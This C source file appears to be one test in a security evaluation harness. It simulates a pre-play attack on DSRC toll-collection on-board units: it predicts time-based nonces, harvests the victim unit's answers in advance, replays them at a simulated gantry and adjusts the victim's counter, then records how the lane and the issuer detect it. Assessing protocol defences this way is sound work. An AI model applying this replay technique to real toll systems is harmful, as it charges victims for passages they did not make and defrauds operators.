/* T8 pre-play: the attacker asks the victim's OBE in advance (a parked car, a reader of its
 * own) with the nonces it predicts the gantry will use, keeps the answers, and later presents
 * them at the gantry from another device at the predicted moment. It works exactly when the
 * RSE's nonces can be predicted: with nonce_mode time, RND-1 and the GET_STAMPED nonces are
 * the transaction time T (rse/src/txn.c, draw_nonce), which a clock set to UTC knows to the
 * hundredth of a second. The attacker needs no key; at Level 1 it would need the operator's
 * MAcK to be answered at all, and it tries without. */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "issuer/issuer_analyse.h"
#include "dsrc/keys.h"
#include "efc/build.h"
#include "efc/msg.h"
#include "rse/verify.h"
#include "security/attack.h"

/* The pre-play happens this long before the passage (the attacker then drives there); longer
 * than the five minutes the harness moves the clock on after a reader's session. The device
 * is at the gantry a little before the moment. */
#define LEAD_NS UINT64_C(900000000000)
#define EARLY_NS UINT64_C(30000000)
#define CS_NS UINT64_C(10000000)
/* Centiseconds from the predicted T that the attacker covers per GET_STAMPED keyRef (asking
 * costs an EN 15509 OBE nothing), and for GET_SECURE (each one advances the AutoPASS TC,
 * which would show as a gap at the issuer, so it asks for T alone). */
#define SPAN_STAMPED 2
#define SPAN_SECURE 1
#define STORE_MAX 8

typedef struct {
  uint8_t key[8];             /* RND-1 || T, or keyRef || nonce */
  size_t keylen;
  uint8_t lsdu[DSRC_FRAME_MAX]; /* the victim's answer, PDU number to be set */
  size_t len;
} stored;

/* The attacker's device at the gantry: the victim's VST and answers, nothing else. */
typedef struct {
  uint8_t vst[DSRC_FRAME_MAX];
  size_t vst_len;
  stored st[STORE_MAX];
  unsigned nst;
  uint8_t get[DSRC_FRAME_MAX]; /* the victim's GET answer (vehicle data) */
  size_t get_len;
  uint64_t gate;               /* silent until the BST at or after this lane time */
  uint32_t lid;
  bool requested, sent_vst, have_llc;
  uint8_t last_llc;
  uint8_t last[DSRC_FRAME_MAX];
  size_t last_len;
  unsigned hits, misses;       /* live nonces found in the table, and not */
} device;

/* What the pre-play session obtained. */
typedef struct {
  unsigned asked, denied, refused;
} preplay;

static int ret_of(const dsrc_tapdu *a) {
  if (a->kind == DSRC_ACTION_RS && a->u.action_rs.has_ret) return a->u.action_rs.ret;
  if (a->kind == DSRC_GET_RS && a->u.get_rs.has_ret) return a->u.get_rs.ret;
  if (a->kind == DSRC_SET_RS && a->u.set_rs.has_ret) return a->u.set_rs.ret;
  return 0;
}

static void store(device *d, const uint8_t *key, size_t keylen, const dsrc_tapdu *a) {
  stored *s;
  dsrc_ssize n;
  if (d->nst >= STORE_MAX) return;
  s = &d->st[d->nst];
  n = dsrc_pdu_encode(s->lsdu, sizeof(s->lsdu), 2, a);
  if (n <= 0) return;
  memcpy(s->key, key, keylen);
  s->keylen = keylen;
  s->len = (size_t)n;
  d->nst++;
}

/* Asks one command; an answer with data is returned in *a, a refusal is counted. */
static bool ask(sec_reader *r, preplay *pp, const dsrc_tapdu *q, dsrc_tapdu *a) {
  int ret;
  pp->asked++;
  if (sec_reader_ask(r, q, a) != 0) return false;
  ret = ret_of(a);
  if (ret == DSRC_RET_ACCESS_DENIED) pp->denied++;
  else if (ret > 0) pp->refused++;
  return ret == 0;
}

/* The pre-play: the victim's OBE answers the predicted nonces of a passage at T. */
static int preplay_run(sec_world *w, sec_obe *v, uint32_t t_cs, device *d, preplay *pp) {
  static dsrc_tapdu q, a; /* large: off the stack */
  sec_reader r;
  dsrc_ssize n;
  uint8_t key[8];
  const dsrc_application *app;
  uint16_t counter = 0;
  bool have_counter = false;
  obe_sleep(&v->o);
  /* It imitates the gantry's beacon (seen on the air), so the OBE's own log shows nothing odd. */
  if (sec_reader_open(&r, w, &v->o, NULL) != 0) return -1;
  n = dsrc_pdu_encode(d->vst, sizeof(d->vst), 2, &r.vst);
  if (n <= 0) return -1;
  d->vst_len = (size_t)n;
  app = rse_vst_app(&r.vst.u.vst, w->profile);
  if (!app) return -1;
  if (w->profile == EFC_PROFILE_AUTOPASS) {
    for (uint32_t k = 0; k < SPAN_SECURE; k++) {
      /* RND-1 = T = the predicted time; keyGen as every GET_SECURE.rq on the air shows it. */
      dsrc_autopass_time_octets(key, t_cs + k);
      dsrc_autopass_time_octets(key + 4, t_cs + k);
      efc_msg_get_secure(&q, app->eid, key, key + 4,
                         (uint8_t)(w->keys.op.generation << 4 | w->keys.op.generation));
      if (ask(&r, pp, &q, &a)) store(d, key, 8, &a);
    }
  } else {
    const uint8_t refs[2] = {w->rcfg.keyref_tsp, w->rcfg.keyref_tc};
    for (int i = 0; i < 2; i++)
      for (uint32_t k = 0; k < SPAN_STAMPED; k++) {
        key[0] = refs[i];
        dsrc_autopass_time_octets(key + 1, t_cs + k);
        efc_msg_get_stamped(&q, app->eid, NULL, &w->rcfg.stamped_ids, refs[i], key + 1);
        if (!ask(&r, pp, &q, &a)) continue;
        store(d, key, 5, &a);
        for (unsigned j = 0; a.u.action_rs.has_parameter && a.u.action_rs.parameter.kind == DSRC_C_GSTRS &&
                             j < a.u.action_rs.parameter.u.gstrs.list.count;
             j++) {
          const dsrc_attribute *at = dsrc_tapdu_attr(&a, a.u.action_rs.parameter.u.gstrs.list, j);
          if (at->value.kind == DSRC_C_EQUSTAT) {
            counter = at->value.u.status.counter;
            have_counter = true;
          }
        }
      }
    /* The vehicle data the gantry will ask for. */
    efc_msg_get(&q, app->eid, NULL, &w->rcfg.vehicle_ids);
    if (ask(&r, pp, &q, &a) && (n = dsrc_pdu_encode(d->get, sizeof(d->get), 2, &a)) > 0) d->get_len = (size_t)n;
    if (have_counter) {
      /* And the counter moved on as the gantry would have moved it: the victim's next
       * passage then reads the value that follows the presented one. */
      efc_msg_set_counter(&q, app->eid, NULL, (uint16_t)(counter + 1));
      ask(&r, pp, &q, &a);
    }
  }
  sec_reader_close(&r);
  return 0;
}

static const stored *lookup(const device *d, const uint8_t *key, size_t keylen, size_t match) {
  const stored *near = NULL;
  for (unsigned i = 0; i < d->nst; i++) {
    if (d->st[i].keylen != keylen || memcmp(d->st[i].key, key, match) != 0) continue;
    if (memcmp(d->st[i].key, key, keylen) == 0) return &d->st[i];
    if (!near) near = &d->st[i];
  }
  return near;
}

/* A frame's length, 0 for none. */
static size_t sent(dsrc_ssize n) { return n > 0 ? (size_t)n : 0; }

/* The reply to one live command: the stored answer for its nonce, or what needs no key. */
static size_t reply(device *d, const dsrc_frame *f, uint8_t *out, size_t cap) {
  static dsrc_tapdu q, a;
  uint8_t lsdu[DSRC_FRAME_MAX], key[8];
  unsigned pdu;
  const stored *s = NULL;
  const uint8_t *secure;
  const dsrc_gstrq *stamped;
  dsrc_ssize n;
  if (dsrc_pdu_decode(&q, &pdu, f->lsdu, f->lsdu_len, NULL) <= 0) return 0;
  if ((secure = efc_msg_secure_rq(&q))) {
    s = lookup(d, secure, 8, 0);
    if (s && memcmp(s->key, secure, 8) == 0) d->hits++;
    else d->misses++;
  } else if ((stamped = efc_msg_stamped_rq(&q))) {
    key[0] = stamped->key_ref;
    memcpy(key + 1, stamped->nonce.data, 4);
    /* The entry for this keyRef and nonce; failing that, one for the keyRef (a guess). */
    s = lookup(d, key, 5, 1);
    if (s && memcmp(s->key, key, 5) == 0) d->hits++;
    else d->misses++;
  } else if (q.kind == DSRC_GET_RQ && d->get_len) {
    return sent(efc_build_answer_now(out, cap, d->lid, f, d->get, d->get_len));
  } else if (q.kind == DSRC_SET_RQ) {
    dsrc_tapdu_init(&a, DSRC_SET_RS);
    a.u.set_rs.eid = q.u.set_rq.eid;
    a.u.set_rs.has_ret = true;
    a.u.set_rs.ret = DSRC_RET_NO_ERROR;
  } else if (q.kind == DSRC_ACTION_RQ && q.u.action_rq.type == DSRC_ACT_SET_MMI) {
    dsrc_tapdu_init(&a, DSRC_ACTION_RS);
    a.u.action_rs.eid = q.u.action_rq.eid;
  } else {
    return 0;
  }
  if (s) return sent(efc_build_answer_now(out, cap, d->lid, f, s->lsdu, s->len));
  if (q.kind == DSRC_ACTION_RQ && q.u.action_rq.type != DSRC_ACT_SET_MMI) return 0; /* nothing stored */
  n = dsrc_pdu_encode(lsdu, sizeof(lsdu), pdu, &a);
  return n > 0 ? sent(efc_build_answer_now(out, cap, d->lid, f, lsdu, (size_t)n)) : 0;
}

static size_t device_uplink(void *ctx, uint64_t t, const uint8_t *down, size_t down_len, unsigned w,
                            uint64_t window_start, uint8_t *out, size_t cap) {
  device *d = ctx;
  dsrc_frame f;
  size_t len = 0;
  (void)window_start;
  if (w != 0 || dsrc_frame_decode(&f, down, down_len) != 0) return 0;
  if (f.lid_len == 1) {
    /* Silent until the predicted moment, then one window request. */
    if (d->requested || !(f.mac & DSRC_MAC_A) || t < d->gate) return 0;
    len = sent(efc_build_window_request(out, cap, d->lid));
    d->requested = len > 0;
  } else if (d->requested && f.lid_len == 4 && f.lid == d->lid) {
    if (!f.has_llc && (f.mac & DSRC_MAC_A)) {
      if (!d->sent_vst) {
        len = sent(efc_build_uplink(out, cap, d->lid, d->vst, d->vst_len));
        d->sent_vst = len > 0;
      } else if (d->last_len <= cap) {
        memcpy(out, d->last, len = d->last_len);
      }
    } else if (f.has_llc && dsrc_llc_is_acn(f.llc) && f.lsdu_len) {
      if (d->have_llc && f.llc == d->last_llc && d->last_len <= cap) memcpy(out, d->last, len = d->last_len);
      else len = reply(d, &f, out, cap);
      d->have_llc = true;
      d->last_llc = f.llc;
    }
  }
  if (len) {
    memcpy(d->last, out, len);
    d->last_len = len;
  }
  return len;
}

/* Issuer findings that point at the OBE or the claim: not `unbound` (the RSE's configuration,
 * on every claim alike) and not a gap (claims missing, which says nothing of this one). */
static unsigned suspicious(unsigned flags, unsigned seq) {
  return (flags & ~(unsigned)ISSUER_UNBOUND) | (seq & ~(unsigned)ISSUER_SEQ_GAP);
}

static int preplay_attack(sec_world *w, const sec_params *p, sec_outcome *out, device *d) {
  sec_obe victim;
  sec_passage ps;
  preplay pp;
  unsigned flags[SEC_CLAIMS_MAX], seq[SEC_CLAIMS_MAX], fl = 0, sq = 0, presented = 0, lane_pass = 0, listed = 0;
  unsigned charged = 0, unpaid = 0, hits = 0, misses = 0, flagged = 0;
  int present_claim[32], victim_claim[32], first_verdict = -1;
  bool passed[32];
  char err[300], why[96], iss[96], sqs[64], what[SEC_TEXT];
  unsigned n = p->passages < 32 ? p->passages : 32;
  const char *mode = p->nonce_mode == EFC_NONCE_TIME ? "time" : p->nonce_mode == EFC_NONCE_RANDOM ? "random" : "commit";
  unsigned why_all = 0;
  memset(&pp, 0, sizeof(pp));
  w->rcfg.nonce_mode = (uint8_t)p->nonce_mode;
  sec_world_rse_reset(w);
  if (sec_obe_make_single(w, &victim, 0x00e0e008) != 0) return -1;
  /* The victim's history at the issuer: one ordinary passage. */
  if (sec_pass(w, &victim, &ps) != 0) return -1;
  for (unsigned i = 0; i < n; i++) {
    /* The moment of the presentation, to the hundredth: T as the RSE will compute it. */
    uint64_t target = (w->l.now + LEAD_NS + CS_NS - 1) / CS_NS * CS_NS;
    uint32_t t_cs = (uint32_t)(w->rcfg.epoch_cs + (int64_t)(target / CS_NS));
    present_claim[i] = victim_claim[i] = -1;
    passed[i] = false;
    memset(d, 0, sizeof(*d));
    d->lid = 0x5a3c7e01; /* the device's own LID */
    d->gate = target;
    if (preplay_run(w, &victim, t_cs, d, &pp) != 0) {
      snprintf(out->evidence, sizeof(out->evidence), "the victim's OBE did not answer the pre-play reader");
      return -1;
    }
    if (d->nst) {
      if (w->l.now < target - EARLY_NS) w->l.now = target - EARLY_NS;
      if (sec_pass_driven(w, device_uplink, d, &ps) != 0) return -1;
      presented++;
      hits += d->hits;
      misses += d->misses;
      if (presented == 1) first_verdict = ps.done ? ps.verdict : -1;
      if (ps.done && ps.verdict == EFC_PASS) lane_pass++;
      else if (ps.reasons & EFC_WHY_STATUS_LIST) listed++;
      why_all |= ps.reasons;
      present_claim[i] = ps.claim;
      passed[i] = ps.done && ps.verdict == EFC_PASS;
    }
    /* The victim drives through later, as it always does. */
    if (sec_pass(w, &victim, &ps) != 0) return -1;
    victim_claim[i] = ps.claim;
    if (sec_issuer_run(w, flags, seq, err, sizeof(err)) != 0 || sec_world_status_refresh(w, err, sizeof(err)) < 0) {
      snprintf(out->evidence, sizeof(out->evidence), "%.180s", err);
      return -1;
    }
  }
  for (unsigned i = 0; i < n; i++) {
    int k = present_claim[i], v = victim_claim[i];
    if (k >= 0) {
      unsigned bad = flags[k] & ~(unsigned)ISSUER_UNBOUND;
      fl |= flags[k];
      sq |= seq[k];
      flagged += suspicious(flags[k], seq[k]) != 0;
      /* Passed the lane and sound to the issuer: the victim's contract pays for it. */
      if (passed[i] && !bad) charged++;
      if (passed[i] && bad) unpaid++;
    }
    if (v >= 0) {
      sq |= seq[v];
      flagged += suspicious(0, seq[v]) != 0;
    }
  }
  efc_reasons_format(why, sizeof(why), why_all);
  issuer_flags_format(iss, sizeof(iss), fl);
  issuer_seq_flags_format(sqs, sizeof(sqs), sq, 0);
  out->passages = n;
  out->wrong_charges = charged;
  out->lost_charges = unpaid;
  if (!presented) {
    sec_outcome_set(out, SEC_FAILED, "-",
                    "nonce %s: pre-play of %u passages: %u commands to the victim, %u accessDenied, %u refused; "
                    "nothing to present",
                    mode, n, pp.asked, pp.denied, pp.refused);
    return 0;
  }
  snprintf(what, sizeof(what), "%s", charged ? "passages charged to the victim" : unpaid ? "free passages" : "-");
  sec_outcome_set(out,
                  first_verdict != EFC_PASS ? SEC_AT_LANE
                  : flagged                ? SEC_BY_ISSUER
                  : listed                 ? SEC_BY_STATUS_LIST
                                           : SEC_NOT_DETECTED,
                  what,
                  "nonce %s: %u pre-played (%u asked, %u denied); live nonces predicted %u/%u; lane pass %u/%u%s%s%s; "
                  "issuer: %s%s%s",
                  mode, presented, pp.asked, pp.denied, hits, hits + misses, lane_pass, presented, why[0] ? " (" : "",
                  why, why[0] ? ")" : "", iss[0] || sqs[0] ? iss : "sound", iss[0] && sqs[0] ? "," : "", sqs);
  return 0;
}

int sec_t08_preplay(sec_world *w, const sec_params *p, sec_outcome *out) {
  /* A few kilobytes: off the stack, and one per call, since cells run on several threads. */
  device *d = calloc(1, sizeof(*d));
  int rv;
  if (!d) {
    snprintf(out->evidence, sizeof(out->evidence), "out of memory");
    return -1;
  }
  rv = preplay_attack(w, p, out, d);
  free(d);
  return rv;
}
